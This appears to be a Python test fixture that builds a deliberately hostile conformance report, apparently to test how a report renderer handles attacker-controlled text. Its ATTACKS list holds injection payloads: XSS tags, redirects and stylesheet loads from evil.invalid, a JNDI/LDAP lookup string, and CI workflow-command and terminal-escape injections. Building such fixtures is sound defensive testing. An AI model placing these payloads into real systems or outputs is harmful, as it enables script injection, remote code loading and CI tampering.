"""A report on the worst server there is: every text that a target has a say in is an attack on whoever shows it."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from itertools import cycle

from support.reports import timing

from workloads_reports import (
    Changed,
    Circumstance,
    Element,
    Finding,
    Implementation,
    Leftovers,
    Message,
    RecordedExchange,
    Report,
    RequirementResult,
    Run,
    RunVerdict,
    Since,
    Spec,
    Transition,
    Verdict,
    Waiver,
    WaiverState,
    WaiverUse,
    rule,
)
from workloads_specs import Level, load_catalogue

ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</style><style>*{display:none}</style><link rel=stylesheet href=http://evil.invalid/a.css>",
    '"><img src=http://evil.invalid/b onerror=alert(3)><svg onload=alert(4)>',
    "<!--<iframe srcdoc='<script>parent.alert(5)</script>'></iframe>",
    "</pre></bdi></title></textarea></article></details><h1 style=position:fixed;inset:0>owned</h1>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/c'><base href=http://evil.invalid/>",
    "javascript:alert(6) [x](javascript:alert(7)) ![x](http://evil.invalid/d) @everyone #1 http://evil.invalid/e",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.invalid/f}",
    "\x1b[31m\x07\x00\r\n::error::owned\n##[set-env name=PATH]owned\n::set-output name=a::b",
    "\u202edesrever\u2066\u200b\u2028\u2029\ufeff\ud800",
    "e" + "\u0301\u0489" * 200,
    "x" * 5_000,
    "שלום العالم 漢字 🚀",
    "| a | b |\n| --- | --- |\n```\n# owned\n<details open>",
    "]]> &lt; &#x3c; %3C \\ ` ' \"",
)
NASTY = " ".join(ATTACKS)


def hostile_report(*, huge: int = 10_000_000, findings: int = 2) -> Report:
    """Returns a report in which each verdict occurs at each level; some texts have `huge` characters."""
    attacks = cycle(ATTACKS)
    flood = "<b>" * (huge // 3)
    verdicts = {level: cycle(Verdict) for level in Level}
    results = []
    for number, requirement in enumerate(load_catalogue().values()):
        verdict = next(verdicts[requirement.level])
        broken = verdict in (Verdict.FAIL, Verdict.WAIVED)
        made = (_finding(next(attacks), flood if number < 30 else NASTY[:huge], index) for index in range(findings))
        results.append(
            RequirementResult(
                requirement=requirement,
                verdict=verdict,
                reason=flood if number == 3 else next(attacks),
                cases=number,
                findings=tuple(made) if broken else (),
            )
        )
    verdict, _ = rule(results, complete=False)
    started = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    some = timing(0.0007, 0.0025, 0.0025, 31.5)
    return Report(
        verdict=verdict,
        reason=NASTY,
        suite_version="1.2.3",
        spec=Spec(title="NVIDIA Run:ai", version="2.24", sha256="a" * 64),
        target_url=flood,
        implementation=Implementation(organization=NASTY, project=flood, version=NASTY, url=NASTY, contact=NASTY),
        run=Run(
            id="abc123",
            started=started,
            finished=started + timedelta(seconds=2.5),
            seed=7,
            profile="standard",
            mode="full",
            concurrency=4,
            complete=False,
        ),
        exchanges=100_000,
        requirements=tuple(results),
        observations={
            result.requirement.id: dict.fromkeys((*ATTACKS, flood), 3)
            for result in results
            if result.requirement.level is Level.OBSERVE
        },
        timings=dict.fromkeys((*ATTACKS, "GET", flood), some),
        waivers=tuple(
            WaiverUse(
                waiver=Waiver(
                    requirement=result.requirement.id,
                    owner=NASTY,
                    reason=flood,
                    link=f"https://x/{NASTY}",
                    expires=date(2026, 1, 1),
                    finding=NASTY,
                ),
                state=state,
            )
            for result, state in zip(results, WaiverState, strict=False)
        ),
        elements=tuple(
            Element(name, NASTY, tuple(result.requirement.id for result in results[:3])) for name in (*ATTACKS, flood)
        ),
        since=Since(
            run=NASTY,
            finished=started,
            verdict=RunVerdict.CONFORMANT,
            circumstances=(Circumstance("target", flood, NASTY),),
            changes=tuple(
                Changed(
                    requirement=result.requirement.id,
                    change=change,
                    before=Verdict.PASS,
                    after=result.verdict,
                    regression=change is Transition.NEWLY_FAILING,
                )
                for result, change in zip(results, Transition, strict=False)
            ),
        ),
        leftovers=Leftovers(
            created=60,
            removed=20,
            leaked=tuple(f"{NASTY}{number}" for number in range(30)),
            unknown=tuple(f"{NASTY}{number}" for number in range(10)),
        ),
    )


def _finding(attack: str, flood: str, number: int) -> Finding:
    message = Message(
        start=f"POST /{attack} HTTP/1.1", headers=((attack, attack), ("X-Long", flood)), body=flood, size=len(flood)
    )
    return Finding(
        code=f"{number} {attack}",
        test=attack,
        case=attack,
        message=f"{number} {attack}",
        expected=attack,
        observed=flood,
        reproduce=flood,
        confirmed="3/3",
        occurrences=number + 1,
        reproduce_httpx=f"httpx.get({attack!r})",
        reproduce_http=flood,
        exchange=RecordedExchange(
            request=message, response=message if number % 2 else None, failure=attack, seconds=0.01
        ),
    )
